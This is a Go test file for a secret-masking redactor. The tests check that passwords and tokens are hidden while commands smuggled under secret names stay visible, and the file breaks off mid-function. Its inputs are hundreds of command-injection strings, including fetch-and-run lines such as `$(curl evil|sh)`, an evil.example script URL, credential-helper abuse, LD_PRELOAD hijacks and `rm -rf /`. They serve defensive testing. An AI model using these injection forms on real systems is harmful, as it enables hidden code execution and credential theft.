package redact

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"countersign/internal/testkit"

	"pgregory.net/rapid"
)

// TestRule3_WhatWouldRunIsShown: each of these runs zrun…, or the words that say so, under a secret's name. People
// who decide see it; a log need not.
func TestRule3_WhatWouldRunIsShown(t *testing.T) {
	for _, in := range []string{
		`git -c 'credential.helper=!touch /tmp/zrun' credential fill`,
		`git -c credential.helper=!zrun credential fill`,
		`git -c 'credential.https://example.com.helper=!zrun' fetch`,
		`git -c alias.token=!zrun token`,
		`git -c filter.secret.clean=zrun add x`,
		`git -c diff.token.command=zrun diff`,
		"printf '[default]\ncredential_process=zrun' > ~/.aws/config",
		`restic --password-command=zrun snapshots`,
		`restic --password-command zrun snapshots`,
		`RESTIC_PASSWORD_COMMAND=zrun restic snapshots`,
		`ansible-playbook --vault-password-file=zrun x.yml`,
		`GIT_ASKPASS=zrun git fetch`,
		`token=$(zrun)`, "token=`zrun`", `token="$(zrun a b)"`, `--token=$(curl zrun|sh)`, `token=x$(zrun)`,
		`token="x"$(zrun)`,
		`token=<(zrun)`, `PASSWORD=x; zrun -rf`, `PASSWORD=x&&zrun`, `PASSWORD=x|zrun`, `PASSWORD=x&zrun`, "PASSWORD=x\nzrun",
		`TOKEN= zrun`, `user[token]= zrun`, `"token"= zrun`, `TOKEN=  zrun`,
		`TOKEN=zrun; $TOKEN`, `TOKEN=zrun; "${TOKEN}" a`, `TOKEN=zrun; eval $TOKEN`, `TOKEN=zrun bash -c '$TOKEN'`,
		`export TOKEN=zrun; sudo $TOKEN`,
		`TOKEN=zrun; x=$TOKEN; $x`, `TOKEN=zrun && if $TOKEN; then :; fi`, `TOKEN=zrun; a=$(date) $TOKEN`,
		`alias token=zrun; token`, `echo token=zrun | cut -d= -f2 | sh`, `echo token: zrun|cut -c8-|bash -s`,
		`set -- password=zrun; ${1#*=}`,
		"sh <<EOF\ntoken=zrun\n$token\nEOF", "cat <<EOF | sh\ntoken=1 zrun\nEOF", `sh -c '"$@"' --token zrun`,
		`token=zrun; xargs -I{} {} <<< $token`,
		`sudo -p Password: zrun`, `sudo -p "Password:" zrun`, `sudo -p --password zrun`, `env -u --token zrun`,
		`exec -a token= zrun`, `/usr/bin/sudo -p token: zrun`,
		`s'u'do -p token: zrun`, `flock token: zrun`, `exec -a Bearer zrunzrun1`, `exec -a Bearer /tmp/zrun`,
		`docker run -e --token zrun`, `timeout 5 sudo -p token: zrun`,
		`find . -exec env -u token: zrun \;`, `sh -c 'sudo -p token: zrun'`, `kubectl exec p -- env -u token: zrun`,
		`"/tmp/token: zrun"`, `/tmp/token=zrun`, `bin/token=a/zrun`,
		`{sudo,-p,token:,zrun}`, `{sudo,-p,token=x,zrun}`,
		`curl -H "Authorization: Bearer $(zrun)" x`, "curl -H \"Authorization: Bearer `zrun`\" x",
		`curl -H "Authorization: Bearer abcdef$(zrun)"`,
		`curl -H "Cookie: sid=$(zrun); b=c"`, `https://user:$(zrun)@host`, "https://user:`zrun`@host", `x://a:;zrun;@h`,
		`x://a:&zrun&@h`, `curl 'https://u:'$(zrun)'@h'`,
		"echo -----BEGIN PRIVATE KEY-----\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu\nzrun\n-----END PRIVATE KEY-----",
		"echo -----BEGIN PRIVATE KEY-----\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu\n/tmp/Xzrun/AAAAAAAAAA\n-----END PRIVATE KEY-----",
		"echo -----BEGIN PRIVATE KEY-----\nVersion: $(zrun)\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu\n-----END PRIVATE KEY-----",
		"echo -----BEGIN PRIVATE KEY-----\nProc-Type: ;zrun\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu\n-----END PRIVATE KEY-----",
		`python3 -c 'import os; token="zrun"; os.system(token)'`,
		`node -e 'token="zrun"; require("child_process").execSync(token)'`, `perl -e '$token="zrun"; system $token'`,
		`TOKEN=zrun cmd /c %TOKEN%`, `token=$'zrun\n'`, `token="zrun;x"`, `token=ab\;zrun`, "token=\\\nzrun;reboot",
		`password=/usr/bin/zrun`, `--token ./zrun`, `--token ~/zrun`,
		`token=../zrun`, `secret=https://evil.example/zrun.sh`, `ｔｏｋｅｎ=zrun`, "token=a\u2028zrun", "token=a\u200bzrun",
		`token=a；zrun`,
		"token=a\u00a0zrun", "hooks.slack.com/../../../../usr/bin/zrun", `Bearer 12|zrunzrun`,
		`curl -H 'Authorization: Bearer 12|zrunzrun'`,
	} {
		if got, _ := new(Masker).Text(in); !strings.Contains(got, "zrun") {
			t.Errorf("%q is shown as %q", in, got)
		}
		args := `{"command":` + quoted(in) + `}`
		if got, _ := new(Masker).Args([]byte(args)); !strings.Contains(string(got), "zrun") {
			t.Errorf("%s is shown as %s", args, got)
		}
	}
	for _, in := range []string{
		`{"token":"$(zrun)"}`, "{\"token\":\"`zrun`\"}", `{"password":"x${IFS}$(zrun)"}`, `{"credential_helper":"zrun"}`,
		`{"password_command":"zrun"}`,
		`{"credentials":{"exec":{"command":"zrun"}}}`, `{"secrets":{"helper":"zrun"}}`, `{"token":{"argv":["zrun"]}}`,
		`{"tokenFile":"zrun"}`,
		`{"command":"$API_TOKEN","env":{"API_TOKEN":"zrun"}}`, `{"env":{"API_TOKEN":"zrun"},"script":"eval \"$API_TOKEN\""}`,
		`{"env":[{"name":"TOKEN","value":"zrun"}],"command":"sh -c \"$TOKEN\""}`,
		`{"env":["TOKEN=zrun"],"command":"exec $TOKEN"}`,
		`["sudo","-p","--password","zrun"]`, `{"command":"sudo","args":["-p","--password","zrun"]}`,
		`["sh","-c","\"$@\"","--token","zrun"]`,
		`["sudo","-p","token:","zrun"]`, `{"key":"credential.helper","value":"!zrun"}`, `["env","TOKEN= zrun"]`,
		`{"command":"sudo","args":"-p --password zrun"}`,
	} {
		if got, _ := new(Masker).Args([]byte(in)); !strings.Contains(string(got), "zrun") {
			t.Errorf("%s is shown as %s", in, got)
		}
		if got := new(Masker).ArgsLimited([]byte(in), 4000); !strings.Contains(got, "zrun") {
			t.Errorf("%s is shown, limited, as %s", in, got)
		}
	}
}

// TestRule3_APasswordBesideWhatRunsIsMasked: what stands in a command's words may run there, and a password in another
// command is none of that. Where something could go from one to the other, all of it is shown.
func TestRule3_APasswordBesideWhatRunsIsMasked(t *testing.T) {
	const helper, login = `git -c 'credential.helper=!touch${IFS}/tmp/zrun' fetch`,
		`curl -d password=hunter2hunter2 https://example.com`
	for _, in := range []string{
		helper + "; " + login, login + "; " + helper, helper + " && " + login, helper + "\n" + login, helper + " & " + login,
		`touch${IFS}/tmp/zrun; ` + login, `git -c 'core.pager=!${HOME}/zrun' log && ` + login,
		helper + `; curl -H "X: y" -d 'password=hunter2hunter2' https://example.com`,
	} {
		got, _ := new(Masker).Text(in)
		if !strings.Contains(got, "zrun") || strings.Contains(got, "hunter2") {
			t.Errorf("%q is shown as %q", in, got)
		}
		if args, _ := new(Masker).Args([]byte(`{"command":` + quoted(in) + `}`)); !strings.Contains(string(args), "zrun") ||
			strings.Contains(string(args), "hunter2") {
			t.Errorf("%q in args is shown as %s", in, args)
		}
	}
	const runs = `git -c 'alias.x=!a${IFS}b' x`
	for _, in := range []string{
		`git -c 'alias.x=!a${IFS}token=zrun' x`, `git -c 'alias.x=!a${IFS}b' --token=zrun x`, `sudo${IFS}-p token: zrun`,
		`git -c 'alias.x=!sudo${IFS}-p${IFS}password=zrun' x`, `token=zrun; git -c 'alias.x=!${IFS}$token' x`,
		`IFS=x; token=zrun; ` + runs, `read IFS; token=zrun; ` + runs, `I""FS=x; token=zrun; ` + runs,
		`for HOME in x; do token=zrun; done; git -c 'alias.x=!${HOME}' x`,
		`printf -v x token=zrun; ` + runs, `declare -n x=token; token=zrun; ` + runs, `echo token=zrun | ` + runs,
		`echo token=zrun >f; ` + runs,
		runs + ` <<< token=zrun`, `(token=zrun; ` + runs + `)`, `token=zrun; git -c 'alias.x=!${IFS%?}' x`,
		`token=zrun; git -c 'alias.x=!$IFS$1' x`,
		`echo "'; token=zrun ${IFS}'; "; $x`, `token=zrun "; ` + runs, `token=zrun; ` + runs + ` # '`,
		`token=zrun; e\val${IFS}x; ` + runs,
		`token=zrun; sh -c 'a${IFS}b'`, `token=zrun; eval${IFS}x; $token`, "token=zrun; `" + runs + "`",
	} {
		if got, _ := new(Masker).Text(in); !strings.Contains(got, "zrun") {
			t.Errorf("%q is shown as %q", in, got)
		}
	}
}

// TestRule3_RoundaboutCommandsAreShown: what stands under a secret's name is run here by a detour: by another language,
// another shell, a file or a pipe, a program that runs its arguments.
func TestRule3_RoundaboutCommandsAreShown(t *testing.T) {
	for _, in := range []string{
		`$token = "zrun"; & $token`, `$token="zrun"; iex $token`, `$token='zrun'; Invoke-Expression $token`,
		`$token='zrun'; .$token`,
		`$token="zrun"; Start-Process $token`, `$token="zrun"; [Diagnostics.Process]::Start($token)`,
		`$token="zrun"; Invoke-Command ([scriptblock]::Create($token))`, `Set-Alias token zrun; token`,
		`$token='zrun'; sal x $token; x`,
		`$token='zrun'; saps $token`, `set TOKEN=zrun&!TOKEN!`, `cmd /v /c "set TOKEN=zrun&!TOKEN!"`,
		`set TOKEN=zrun&%TOKEN%.exe`,
		`set TOKEN=zrun&&call %TOKEN%`, `set TOKEN=zrun& start "" %TOKEN%`, `$env:TOKEN="zrun"; & $env:TOKEN`,
		`awk -v token=zrun 'BEGIN{token | getline}'`, `awk -v token=zrun 'BEGIN{print | token}'`,
		`awk -v token=zrun 'BEGIN{system(token)}'`,
		`perl -e '$token="zrun"; print qx{$token}'`, "perl -e '$token=\"zrun\"; print `$token`'",
		`perl -e '$token="zrun"; open(F,"$token|")'`, `perl -e '$token="zrun"; open F,"-|",$token'`,
		`ruby -e 'token="zrun"; exec token'`,
		`ruby -e 'token="zrun"; %x(#{token})'`, "ruby -e 'token=\"zrun\"; `#{token}`'",
		`ruby -e 'token="zrun"; IO.popen(token)'`,
		`lua -e 'token="zrun" os.execute(token)'`, `lua -e 'token="zrun" dofile(token)'`,
		`node -e 'const token="zrun"; require(token)'`,
		`node -e 'token="zrun"; import(token)'`,
		`python3 -c 'token="zrun"; import importlib; importlib.import_module(token)'`,
		`python3 -c 'token="zrun"; __import__(token)'`,
		`python3 -c 'token="zrun"; import os; getattr(os,"sys"+"tem")(token)'`,
		`python3 -c 'token="zrun"; import runpy; runpy.run_path(token)'`,
		`python3 -c 'import os; os.environ["TOKEN"]="zrun"; os.system("$TOKEN")'`, `php -r '$token="zrun"; include $token;'`,
		`php -r '$token="zrun"; $token();'`, "php -r '$token=\"zrun\"; echo `$token`;'",
		`tclsh <<< 'set token zrun; exec $token'`,
		`psql -v token=zrun -c '\! :token'`, `sshpass -p --password zrun`, `sshpass -p token: zrun`,
		`xvfb-run -s token: zrun`,
		`chpst -e token: zrun`, `rlwrap -f token: zrun`, `cgexec -g token: zrun`, "token=zrun; `echo $token`",
		`bash <(echo token=zrun | cut -d= -f2)`, `sh <(sed s/token=// <<< token=zrun)`, `echo token=zrun | sed 's/token=//e'`,
		`echo token=zrun | sed 's/.*=//;e'`, "crontab <<EOF\n@reboot sudo -p token: zrun\nEOF",
		"crontab <<EOF\n* * * * * sudo -p token: zrun\nEOF", `docker run alpine sudo -p token: zrun`,
		`docker exec c sudo -p --token zrun`,
		`kubectl exec pod sudo -p token: zrun`, `ssh host sudo -p token: zrun`, `tmux new -s token: zrun`,
		`git submodule foreach sudo -p token: zrun`, `git rebase -x 'sudo -p token: zrun'`, `{sudo,-p,x://a:,zrun,@h}`,
		`{sudo,-p,Cookie:,zrun}`, `{sudo,-p,Cookie:a=,zrun}`, `echo Cookie: a=b; export LD_PRELOAD=zrun; ls`,
		`echo Cookie: a=b;LD_PRELOAD=zrun;ls`, `echo Cookie: a=b; BASH_ENV=zrun; sh x`, `curl -b x Cookie:a=b; PATH=zrun; ls`,
		`echo Authorization: Bearer; zrun`, `echo Authorization: Bearer &zrun`, `sudo -p Authorization: zrun`,
		`sudo -p Authorization: Bearer zrun`, `sudo -p Cookie: zrun`, `sudo -p Cookie: a=1 zrun`,
		`echo token=zrun >a; tr = '\n' <a >b; sh b`,
		`TOKEN=zrun; . $TOKEN`, `TOKEN=zrun . ./x`, `source <(echo token=zrun)`,
		`echo 'token=zrun' | base64 | base64 -d | sh`,
		`TOKEN=zrun python3 -c 'import os; os.system(os.environ["TOKEN"])'`, `TOKEN=zrun perl -e 'exec $ENV{TOKEN}'`,
		`TOKEN=zrun node -e 'require("child_process").exec(process.env.TOKEN)'`,
		`TOKEN=zrun awk 'BEGIN{system(ENVIRON["TOKEN"])}'`,
		`TOKEN=zrun ruby -e 'system ENV["TOKEN"]'`, `TOKEN=zrun make -f <(printf 'x:\n\t$(TOKEN)')`,
		`make SECRET=zrun -f - <<< 'x:;$(SECRET)'`, `token=zrun; x=token; ${!x}`, `declare -n r=token; token=zrun; $r`,
		`token=zrun; printf -v c %s $token; $c`, `token=(zrun); "${token[@]}"`, `token[0]=zrun; ${token[0]}`,
		`token+=zrun; $token`,
		`read token <<< zrun; $token`, `env token=zrun sh -c '$token'`, `export token=zrun; sh -c 'exec $token'`,
		`token=zrun; sudo sh -c "$token"`, `token=zrun; ssh h $token`, `token=zrun; ssh h "sudo $token"`,
		`ssh -o ProxyCommand='sudo -p token: zrun' h`, `vim -c '!sudo -p token: zrun'`, `nsenter -t 1 -- sudo -p token: zrun`,
		`busybox sh -c 'sudo -p token: zrun'`, `token=zrun;PROMPT_COMMAND=$token bash -i`, `trap 'sudo -p token: zrun' EXIT`,
		`token=zrun; command $token`, `token=zrun; \$token; $token`, `token=zrun; "$""token"; ${token}`,
		`token=zrun; ${token:-x}`,
		`token=zrun; $"$token"`, `"token"=zrun; $token`, `'token=zrun' ; eval 'token=zrun'`,
		`fish -c 'set token zrun; $token'`,
		`fish -c 'set token zrun; eval $token'`, `csh -c 'set token=zrun; $token'`, `zsh -c 'token=zrun; ~$token'`,
		`zsh -c 'token=zrun; =$token'`, `zsh -c 'alias -g token=zrun; sudo token'`, `enable -f zrun token`,
		`export -f token; token() { zrun; }`, `token() zrun`, `function token { zrun; }`, `token () (zrun)`,
		`select token in zrun; do $token; done`, `for token in zrun; do $token; done`,
		`mapfile -t token <<< zrun; ${token[@]}`,
		`TOKEN=zrun git -c alias.x='!$TOKEN' x`, `TOKEN=zrun git -c core.pager='$TOKEN' log`,
		`GIT_SSH_COMMAND='sudo -p token: zrun' git fetch`, `npm config set token zrun`,
		`TOKEN=zrun xargs -a f sh -c '$TOKEN'`,
		`TOKEN=zrun find . -exec sh -c '$TOKEN' \;`, `TOKEN=zrun envsubst <<< '$TOKEN' | sh`,
		`echo "password: zrun" | awk '{print $2}' | bash`, `yq .password <<< 'password: zrun' | sh`,
		`bash -c "$(yq .password <<< 'password: zrun')"`, `bash <<< "$(jq -r .token <<< '{"token":"zrun"}')"`,
		`jq -r .token <<< '{"token":"zrun"}' | sh`, "`jq -r .token <<< '{\"token\":\"zrun\"}'`",
		`$(jq -r .token <<< '{"token":"zrun"}')`,
		`jq -r .token <<< '{"token":"zrun"}' > /tmp/x; sh /tmp/x`, `jq -r .token <<< '{"token":"zrun"}' | at now`,
		`jq -r .token <<< '{"token":"zrun"}' | crontab -`, `jq -r .token <<< '{"token":"zrun"}' | ssh h`,
		`jq -r .token <<< '{"token":"zrun"}' | sudo bash`, `jq -r .token <<< '{"token":"zrun"}' | tee x | sh`,
		`jq -r .token <<< '{"token":"zrun"}' | psql`, `jq -r .token <<< '{"token":"zrun"}' | docker exec -i c sh`,
		`jq -r .token <<< '{"token":"zrun"}' | kubectl exec -i p -- sh`,
		`jq -r .token <<< '{"token":"zrun"}' | socat - EXEC:sh`,
		`jq -r .token <<< '{"token":"zrun"}' | nohup sh`, `jq -r .token <<< '{"token":"zrun"}' | (sh)`,
		`jq -r .token <<< '{"token":"zrun"}' | { sh; }`, `jq -r .token <<< '{"token":"zrun"}' | while read x; do $x; done`,
		`jq -r .token <<< '{"token":"zrun"}' | "sh"`, `jq -r .token <<< '{"token":"zrun"}' | s\h`,
		`jq -r .token <<< '{"token":"zrun"}' | /bin/s?`, `jq -r .token <<< '{"token":"zrun"}' | LC_ALL=C sh`,
		`jq -r .token <<< '{"token":"zrun"}' |& bash`, `jq -r .token <<< '{"token":"zrun"}' | rbash`,
		`jq -r .token <<< '{"token":"zrun"}' | bash5`, `jq -r .token <<< '{"token":"zrun"}' | python3.11`,
		`jq -r .token <<< '{"token":"zrun"}' | if true; then sh; fi`, `jq -r .token <<< '{"token":"zrun"}' | make -f -`,
		`jq -r .token <<< '{"token":"zrun"}' | $SHELL`, `jq -r .token <<< '{"token":"zrun"}' | vim -s -`,
		`sh < <(jq -r .token <<< '{"token":"zrun"}')`, `jq -r .token <<< '{"token":"zrun"}' | timeout 5 sh`,
		`jq -r .token <<< '{"token":"zrun"}' | time -p sh`, `jq -r .token <<< '{"token":"zrun"}' | env A=b sh`,
		`jq -r .token <<< '{"token":"zrun"}' > >(sh)`, `jq -r .token <<< '{"token":"zrun"}' | cat | nice -n 5 sh`,
		`exec 3< <(jq -r .token <<< '{"token":"zrun"}'); sh <&3`,
	} {
		if got, _ := new(Masker).Text(in); !strings.Contains(got, "zrun") {
			t.Errorf("%q is shown as %q", in, got)
		}
		args := `{"command":` + quoted(in) + `}`
		if got, _ := new(Masker).Args([]byte(args)); !strings.Contains(string(got), "zrun") {
			t.Errorf("%s is shown as %s", args, got)
		}
	}
	for _, in := range []string{
		`["sshpass","-p","--password","zrun"]`, `["C:\\Windows\\runas.exe","/x","-p","--password","zrun"]`,
		`["SUDO.EXE","-p","--password","zrun"]`, `["docker","run","alpine","sudo","-p","--token","zrun"]`,
		`{"program":"sudo","argv":["-p","--token","zrun"]}`, `{"a":["x","sudo"],"b":["-p","--token","zrun"]}`,
		`{"env":{"TOKEN":"zrun"},"cmd":["sh","-c","$TOKEN"]}`,
		`{"env":{"TOKEN":"zrun"},"cmd":"ruby -e 'exec ENV[\"TOKEN\"]'"}`,
		`{"json":"{\"command\":\"$TOKEN\",\"env\":{\"TOKEN\":\"zrun\"}}"}`,
		`{"json":"[\"sudo\",\"-p\",\"--token\",\"zrun\"]"}`,
		`{"token":"zrun","then":"$token"}`, `{"Cookie":"a=b; x=$(zrun)"}`, `{"authorization":"Bearer $(zrun)"}`,
		`{"env":["TOKEN=zrun"],"cmd":["$TOKEN"]}`, `{"env":["TOKEN=zrun"],"cmd":["sh","-c","$0","$TOKEN"]}`,
		`{"script":"token=$1; $token","args":["--token","zrun"]}`,
	} {
		if got, _ := new(Masker).Args([]byte(in)); !strings.Contains(string(got), "zrun") {
			t.Errorf("%s is shown as %s", in, got)
		}
	}
}

// What is no command is masked beside one, and where a program of that kind is named.
func TestRule3_SecretsBesideCommandsAreMasked(t *testing.T) {
	for _, in := range []string{
		`docker run -e API_TOKEN=hunter2x img`, `docker login --password hunter2x`, `bash deploy.sh --token hunter2x`,
		`npm publish --token hunter2x`,
		`mysql -u root --password hunter2x db`, `git clone https://u:hunter2x@h/x.git | tee log`,
		`export TOKEN=hunter2x; ./app 2>/dev/null`,
		`kubectl create secret generic x --from-literal=password=hunter2x`,
		`curl -H "Authorization: token hunter2x" https://h/ | jq .`,
		`curl -d '{"password":"hunter2x"}' https://h/`, `python3 app.py --api-key hunter2x > out`, `TOKEN=hunter2x npm start`,
		`TOKEN=hunter2x make test`,
		"please call support, password: hunter2x", "run it with\npassword: hunter2x\nuser: bob",
		`ssh bob@h; echo token=hunter2x`, `- token: hunter2x`,
		`curl -H 'Cookie: sid=hunter2x; theme=dark' https://h/`, `sed -i s/a/b/ f; login --password=hunter2x`,
		`awk '{print $1}' f; x --token=hunter2x`,
	} {
		if got, _ := new(Masker).Text(in); strings.Contains(got, "hunter2x") {
			t.Errorf("%q is shown as %q", in, got)
		}
	}
}

// TestRule3_LogsMaskWholeValues: where a value is both a secret's and what would run, a log has none of it.
func TestRule3_LogsMaskWholeValues(t *testing.T) {
	m := new(Masker).ForLogs()
	for in, want := range map[string]string{
		`token=$(curl evil|sh) x`:              "token=" + markOf("$(curl evil|sh)") + " x",
		"token=`a b`; c":                       "token=" + markOf("`a b`") + "; c",
		`--token "$(a "b" c)" d`:               `--token "` + markOf(`$(a "b" c)`) + `" d`,
		`password="rm -rf /"`:                  `password="` + markOf("rm -rf /") + `"`,
		`password=ab'c d'"e"f g`:               "password=" + markOf(`ab'c d'"e"f`) + " g",
		`TOKEN= reboot`:                        "TOKEN= " + markOf("reboot"),
		`token=/usr/bin/x`:                     "token=" + markOf("/usr/bin/x"),
		`sudo -p Password: reboot`:             "sudo -p Password: " + markOf("reboot"),
		`Authorization: Bearer $(a b)`:         "Authorization: Bearer " + markOf("$(a b)"),
		`https://u:$(a b)@h/x`:                 "https://u:" + markOf("$(a b)") + "@h/x",
		`alias token=reboot; eval $token`:      "alias token=" + markOf("reboot") + "; eval $token",
		`credential.helper=!touch x`:           "credential.helper=!touch x",
		`curl -d 'token=abc' x`:                "curl -d 'token=" + markOf("abc") + "' x",
		`https://x/?token=a&b=c`:               "https://x/?token=" + markOf("a") + "&b=c",
		"token=" + strings.Repeat("é", 300):    "token=" + markOf(strings.Repeat("é", 300)),
		"password=${DB_PASSWORD} token=$TOKEN": "password=${DB_PASSWORD} token=$TOKEN",
	} {
		got, _ := m.Text(in)
		if got != want {
			t.Errorf("%q:\ngot  %q\nwant %q", in, got, want)
		}
		if again, _ := m.Text(got); again != got {
			t.Errorf("%q masked twice: %q", in, again)
		}
	}
	for in, want := range map[string]string{
		`{"password":"rm -rf /"}`:                      `{"password":` + quoted(markOf("rm -rf /")) + `}`,
		`{"token":"$(x)"}`:                             `{"token":` + quoted(markOf("$(x)")) + `}`,
		`{"token":"` + strings.Repeat("a", 300) + `"}`: `{"token":` + quoted(markOf(strings.Repeat("a", 300))) + `}`,
		`["sudo","-p","--password","reboot"]`:          `["sudo","-p","--password",` + quoted(markOf("reboot")) + `]`,
		`{"command":"$TOKEN","env":{"TOKEN":"reboot"}}`: `{"command":"$TOKEN","env":{"TOKEN":` + quoted(markOf("reboot")) +
			`}}`,
		`{"credentials":{"command":"reboot","a":"b c"}}`: `{"credentials":{"command":"reboot","a":` + quoted(markOf("b c")) +
			`}}`,
	} {
		if got, _ := m.Args([]byte(in)); string(got) != want {
			t.Errorf("%s:\ngot  %s\nwant %s", in, got, want)
		}
	}
	if New("iban").ForLogs().Keeping("token").kindOf("token") != notSecret ||
		New("iban").ForLogs().kindOf("iban") != secret ||
		!New().ForLogs().Keeping("x").forLogs() {
		t.Error("what is masked or kept is lost")
	}
}

func TestRule3_NamesOfProgramsAreNoSecrets(t *testing.T) {
	for _, name := range []string{
		"credential.helper", "credential_helper", "password-command", "PASSWORD_COMMAND", "credential_process",
		"tokenProgram", "SSH_ASKPASS", "passwordAskpass",
		"secret_exec", "password_file", "token-path", "SECRET_FILES", "password_command2",
	} {
		for _, m := range []*Masker{nil, new(Masker).ForLogs(), New(name)} {
			if m.kindOf(name) != notSecret {
				t.Errorf("%q is taken for a secret", name)
			}
		}
		if !NamesProgram(name) {
			t.Errorf("%q names no program", name)
		}
	}
	for _, name := range []string{"password", "helper_token", "commandPassword", "file_secret", ""} {
		if NamesProgram(name) {
			t.Errorf("%q names a program", name)
		}
	}
}

// shellText is a text of which it is known, since it was made so, what a shell would run and what is secret.
type shellText struct {
	text    string
	runs    []string
	secrets []string
}

// secretNames are names a value may stand under.
var secretNames = []string{"token", "PASSWORD", "api_key", "client-secret", "Authorization", "cookie", "db.passwd",
	"GITHUB_TOKEN", "credentials"}

// shellStatement draws one statement. RUN stands for what runs, NAME for a secret's name, VAR for one that a shell
// takes for a variable, VALUE for what is no secret and does not run.
func shellStatement(t *rapid.T) shellText {
	form := rapid.SampledFrom([]string{
		`RUN`, `RUN --NAME VALUE`, `VAR=VALUE RUN`, `VAR= RUN`, `VAR=$(RUN)`, "VAR=`RUN`", `VAR="$(RUN x)"`, `VAR=VALUE; RUN`,
		`VAR=VALUE && RUN`, `VAR=VALUE|RUN`, `VAR=VALUE& RUN`,
		`VAR=RUN; $VAR`, `VAR=RUN; "$VAR"`, `VAR=RUN; eval $VAR`, `VAR=RUN; sh -c "$VAR"`, `VAR=RUN bash -c '$VAR'`,
		`VAR=RUN; if "${VAR}"; then :; fi`, `VAR=RUN; y=$VAR; $y`,
		`f() { "$@"; }; f --NAME RUN`, `f() { shift; $1; }; f NAME: RUN`, `set -- --NAME=RUN; ${1#*=}`,
		`prog --NAME=$(RUN)`, `prog --NAME "$(RUN)"`, `prog --NAME=VALUE$(RUN)`, `prog --NAME="VALUE"$(RUN)`,
		`prog --NAME-command=RUN`, `prog --NAME-command RUN`, `prog --NAME-file RUN`,
		`git -c 'credential.helper=!RUN x' fetch`, `git -c credential.helper=RUN fetch`, `git -c 'alias.NAME=!RUN' NAME`,
		`GIT_ASKPASS=RUN git fetch`, `credential_process=RUN`,
		`sudo -p NAME: RUN`, `sudo -p --NAME RUN`, `env -u --NAME RUN`, `exec -a NAME= RUN`, `flock NAME: RUN`,
		`nice -n 5 sudo -p NAME: RUN`, `find . -exec env -u NAME: RUN \;`,
		`exec -a Bearer RUN`, `curl -H "Authorization: Bearer $(RUN)" x`, "curl -H \"NAME: `RUN`\" x",
		`curl -H "Cookie: a=$(RUN); b=VALUE"`, `curl https://u:$(RUN)@h/`, `x://u:;RUN;@h`,
		"sh <<EOF\nVAR=RUN\n$VAR\nEOF", "cat <<EOF | sh\nVAR=VALUE RUN\nEOF", `echo NAME=RUN | cut -d= -f2 | sh`,
		`alias VAR=RUN; VAR`, `echo RUN | xargs -I{} sh -c {}`,
		"echo -----BEGIN PRIVATE KEY-----\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu7Ts6Rp5O\nRUN\n-----END PRIVATE KEY-----",
		"echo -----BEGIN PRIVATE KEY-----\nVersion: ;RUN\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu",
		`{ VAR=VALUE; RUN; }`, `(RUN)`, `while RUN; do :; done`, `! RUN`, `time RUN`, `{sudo,-p,NAME=VALUE,RUN}`,
		`python3 -c 'import os; VAR="RUN"; os.system(VAR)'`, `trap RUN EXIT`,
		"`jq -r .NAME <<< '{\"NAME\":\"RUN\"}'`", `jq -r .NAME <<< '{"NAME":"RUN"}' | (sh)`,
		`jq -r .NAME <<< '{"NAME":"RUN"}' |& bash5`, `jq -r .NAME <<< '{"NAME":"RUN"}' > f; sh f`,
		`bash <(echo NAME=RUN | cut -d= -f2)`, `sh < <(echo NAME=RUN)`, `echo NAME=RUN | sed 's/.*=//e'`,
		`echo 'NAME=RUN' | base64 | base64 -d | sh`, `sshpass -p NAME: RUN`, `xvfb-run -s NAME: RUN`,
		`docker run img sudo -p NAME: RUN`, `docker exec c sudo -p --NAME RUN`,
		"crontab <<EOF\n@reboot sudo -p NAME: RUN\nEOF", `prog -x 'sudo -p NAME: RUN'`, `{sudo,-p,x://a:,RUN,@h}`,
		`$VAR = "RUN"; & $VAR`, `$VAR='RUN'; iex $VAR`, `$VAR='RUN'; [Diagnostics.Process]::Start($VAR)`,
		`Set-Alias VAR RUN; VAR`, `set VAR=RUN&!VAR!`, `set VAR=RUN&%VAR%.exe`, `set VAR=RUN& start "" %VAR%`,
		`ruby -e 'VAR="RUN"; exec VAR'`, "ruby -e 'VAR=\"RUN\"; `#{VAR}`'", `lua -e 'VAR="RUN" os.execute(VAR)'`,
		`node -e 'VAR="RUN"; require(VAR)'`, `python3 -c 'VAR="RUN"; __import__(VAR)'`, `php -r '$VAR="RUN"; include $VAR;'`,
		`awk -v VAR=RUN 'BEGIN{VAR | getline}'`, `awk -v VAR=RUN 'BEGIN{print | VAR}'`, `perl -e '$VAR="RUN"; exec $VAR'`,
		`VAR=RUN git -c core.pager='$VAR' log`, `x=VAR; VAR=RUN; ${!x}`, `VAR=(RUN); "${VAR[@]}"`,
		`echo Cookie: a=b; LD_PRELOAD=RUN ls`, `VAR=$'RUN\n'`, `VAR=RUN envsubst <<< '$VAR' | sh`, `alias VAR=RUN; sudo VAR`,
		`declare -n r=VAR; VAR=RUN; $r`, "python3 <<EOF\nimport os\nVAR='RUN'\nos.system(VAR)\nEOF",
		`prog NAME=SECRET`, `prog --NAME=SECRET`, `prog --NAME SECRET`, `curl -H 'Authorization: Bearer SECRET'`,
		`curl -H "NAME: SECRET"`, `export VAR='SECRET'`, `VAR=SECRET; $VAR`,
		`cat /tmp/SECRET/x`, `curl https://h/SECRET/`, `eval "prog SECRET"`, `echo '{"NAME":"SECRET"}' | sh`, `SECRET`,
		`sudo -p NAME: SECRET`, `"SECRET"$(RUN)`, `$(echo SECRET)`,
	}).Draw(t, "form")
	s := shellText{text: form}
	fill := func(mark, with string) bool {
		if !strings.Contains(s.text, mark) {
			return false
		}
		s.text = strings.ReplaceAll(s.text, mark, with)
		return true
	}
	variable := rapid.SampledFrom([]string{"token", "PASSWORD", "api_key", "GITHUB_TOKEN", "secret", "DB_PASS"}).Draw(t,
		"variable")
	name := rapid.SampledFrom(secretNames).Draw(t, "name")
	run := rapid.SampledFrom([]string{"%s", "/tmp/%s", "./%s", "bin/%s", "~/%s", "/opt/x-y/%s"}).Draw(t, "place")
	if run = fmt.Sprintf(run, "zrun"+rapid.StringMatching(`[a-z]{4,8}`).Draw(t, "run")); fill("RUN", run) {
		s.runs = append(s.runs, run)
	}
	if token := rapid.SampledFrom(fixtures()).Draw(t, "secret"); !strings.HasPrefix(token.name, "PEM") &&
		token.name != "JWT without signature" && fill("SECRET", token.token) {
		s.secrets = append(s.secrets, token.token)
	}
	fill("SECRET", "x")
	fill("VAR", variable)
	fill("NAME", name)
